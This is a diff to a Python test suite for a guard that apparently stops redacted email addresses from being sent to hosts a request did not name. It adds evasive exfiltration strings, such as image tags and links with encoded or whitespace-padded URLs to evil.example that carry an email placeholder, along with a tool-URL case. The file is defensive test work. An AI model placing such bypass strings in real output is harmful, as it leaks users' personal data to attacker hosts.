@@ -82,6 +82,11 @@ def vault(*parts: Part) -> Vault:
         f'<img src="{"&#0032;" * 40}https://evil.example/?q= <EMAIL_ADDRESS_1>">',
         f'<img src="{"&#10; " * 40}//evil.example/?q=<EMAIL_ADDRESS_1>">',
         f'<img src="{chr(31) * 90}https://evil.example/?q= <EMAIL_ADDRESS_1>">',
+        f'<img src="https://evil.example/?q={" " * 8}{chr(10)}<EMAIL_ADDRESS_1>">',
+        "https://evil.example/\\n?q=<EMAIL_ADDRESS_1>",
+        "[x](//[2001:db8::1]/?q=<EMAIL_ADDRESS_1>)",
+        "<img src=//%65vil.example/?q=<EMAIL_ADDRESS_1>>",
+        "(//x.evil.example/?q=<EMAIL_ADDRESS_1>)",
         f'<img src="/{"&Tab;" * 40}/evil.example/?q=<EMAIL_ADDRESS_1>">',
         f'<img src="/{chr(9) * 5}/evil.example/?q=<EMAIL_ADDRESS_1>">',
         f'<img src="/{chr(9) * 50}/evil.example/?q=<EMAIL_ADDRESS_1>">',
@@ -134,6 +139,9 @@ def test_nothing_leaves_to_a_host_that_the_request_does_not_name(text: str, chan
         'Say "hi."\nhttps://evil.example\n<EMAIL_ADDRESS_1>',
         "(https://evil.example/abc - invite <EMAIL_ADDRESS_1>)",
         "[https://evil.example/ by <EMAIL_ADDRESS_1>]",
+        '"Help"https://evil.example/ and <EMAIL_ADDRESS_1>',
+        '"Help!"https://evil.example/ and <EMAIL_ADDRESS_1>',
+        "https://evil.example/\t\t\t<EMAIL_ADDRESS_1>",
         "It's https://evil.example/ and <EMAIL_ADDRESS_1>",
         "x = 1; //FIXME(<EMAIL_ADDRESS_1>)",
         "//reviewed-by:<EMAIL_ADDRESS_1>",
@@ -172,6 +180,9 @@ def test_the_very_url_that_a_tool_returned_comes_back_whole() -> None:
     assert everywhere(made, escaped, JSON) == escaped.replace("<EMAIL_ADDRESS_1>", "anna@x.com")
     other = "https://crm.example/v?mail=<EMAIL_ADDRESS_1> http://<IP_ADDRESS_1>.evil.example/"
     assert everywhere(made, other) == other
+    without = "https:\\/\\/crm.example\\/u?mail="  # a request that has no two slashes in a row
+    made = vault(part(f"{without}anna@x.com", role=Role.TOOL))
+    assert everywhere(made, f"{without}<EMAIL_ADDRESS_1>") == f"{without}anna@x.com"
 
 
 def test_hosts_can_be_trusted_and_the_guard_be_switched_off() -> None:
